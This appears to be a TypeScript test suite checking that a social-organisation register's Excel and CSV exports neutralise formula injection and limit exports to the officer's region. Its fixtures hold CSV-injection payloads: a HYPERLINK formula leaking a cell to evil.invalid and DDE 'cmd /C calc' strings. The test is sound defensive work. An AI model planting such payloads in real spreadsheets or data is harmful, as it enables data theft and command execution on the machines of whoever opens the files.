import assert from 'node:assert/strict';
import ExcelJS from 'exceljs';
import request from 'supertest';
import { startServer, type TestServer } from '../../../test/support/server';
import { neutralize } from '../../src/platform/exports';
import { newUscc, officer } from './helpers';

const HEADER = ['统一社会信用代码', '名称', '类型', '登记管理机关', '区划代码', '法定代表人', '成立登记日期', '住所'];
const line = (cells: string[]) => cells.map((c) => (/[",\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',');
const csv = (rows: string[][]) => Buffer.from(`${[HEADER, ...rows].map(line).join('\r\n')}\r\n`);

const binary = (res: request.Response, done: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => done(null, Buffer.concat(chunks)));
};

/**
 * Names and addresses in the register are whatever an import brought in. An officer exports
 * the register to Excel: text a spreadsheet would run as a formula arrives as plain text.
 */
describe('Officers export their register, formulas neutralized', () => {
  let s: TestServer;
  let beijing: Awaited<ReturnType<typeof officer>>;
  const hostile = {
    link: { uscc: newUscc('110105'), name: '=HYPERLINK("http://evil.invalid/?leak="&A1,"查看详情")' },
    plus: { uscc: newUscc('110105'), name: '+1+1联谊会' },
    minus: { uscc: newUscc('110105'), name: "-2+3+cmd|' /C calc'!A0" },
    at: { uscc: newUscc('110105'), name: "@SUM(1+1)*cmd|' /C calc'!A0" },
  };
  before(async () => {
    s = await startServer();
    beijing = await officer(s.url, ['110105']);
    const rows = Object.values(hostile).map((o) => [
      o.uscc,
      o.name,
      '社会团体',
      '北京市朝阳区民政局',
      '110105',
      '=1+2',
      '2018-06-01',
      '@北京市朝阳区光华路1号',
    ]);
    const imported = await request(s.url)
      .post('/api/staff/social-orgs/import')
      .set(beijing.auth)
      .attach('file', csv(rows), 'orgs.csv')
      .expect(200);
    assert.equal(imported.body.imported, 4);
  });
  after(async () => s.close());

  it('exports XLSX with every formula-like text shown as text', async () => {
    const res = await request(s.url)
      .get('/api/staff/social-orgs/export')
      .query({ format: 'xlsx', division: '110105' })
      .set(beijing.auth)
      .buffer(true)
      .parse(binary)
      .expect(200);
    assert.match(res.headers['content-type'], /spreadsheetml/);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.body as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    assert.equal(sheet.getRow(1).getCell(1).value, '统一社会信用代码');
    const byUscc = new Map<string, ExcelJS.Row>();
    sheet.eachRow((row) => {
      byUscc.set(String(row.getCell(1).value), row);
    });
    for (const org of Object.values(hostile)) {
      const row = byUscc.get(org.uscc);
      assert.ok(row, `${org.uscc} exported`);
      assert.equal(row.getCell(2).value, `'${org.name}`, 'the name is text, never a formula');
      assert.equal(typeof row.getCell(2).value, 'string');
      assert.equal(row.getCell(8).value, "'=1+2", 'the legal representative too');
      assert.equal(row.getCell(11).value, "'@北京市朝阳区光华路1号");
    }
    // No cell of the workbook is a formula.
    sheet.eachRow((row) => row.eachCell((c) => assert.notEqual(c.type, ExcelJS.ValueType.Formula, String(c.address))));
  });

  it('exports CSV the same way, and only the officer’s own region, audited', async () => {
    const res = await request(s.url)
      .get('/api/staff/social-orgs/export')
      .query({ format: 'csv' })
      .set(beijing.auth)
      .expect(200);
    assert.match(res.headers['content-type'], /text\/csv/);
    assert.ok(res.text.includes(`"'=HYPERLINK(""http://evil.invalid/?leak=""&A1,""查看详情"")"`), res.text);
    assert.ok(res.text.includes(`'+1+1联谊会`));
    const lines = res.text.trim().split('\r\n');
    for (const l of lines.slice(1)) assert.doesNotMatch(l.split(',')[1], /^[=+\-@]/);

    const shenzhen = await officer(s.url, ['4403']);
    const theirs = await request(s.url)
      .get('/api/staff/social-orgs/export')
      .query({ format: 'csv' })
      .set(shenzhen.auth)
      .expect(200);
    assert.equal(theirs.text.includes(hostile.link.uscc), false);
    const [audits] = await s.app.platform.db.query("SELECT action FROM audit_logs WHERE action = 'social_org.export'");
    assert.ok((audits as unknown[]).length >= 3);
    const bad = await request(s.url).get('/api/staff/social-orgs/export').query({ format: 'pdf' }).set(beijing.auth);
    assert.equal(bad.status, 400);
  });

  it('neutralizes a tab or carriage return before a formula too', () => {
    assert.equal(neutralize('\t=1+1'), "'\t=1+1");
    assert.equal(neutralize('\r=1+1'), "'\r=1+1");
    assert.equal(neutralize('北京市=协会'), '北京市=协会');
  });
});
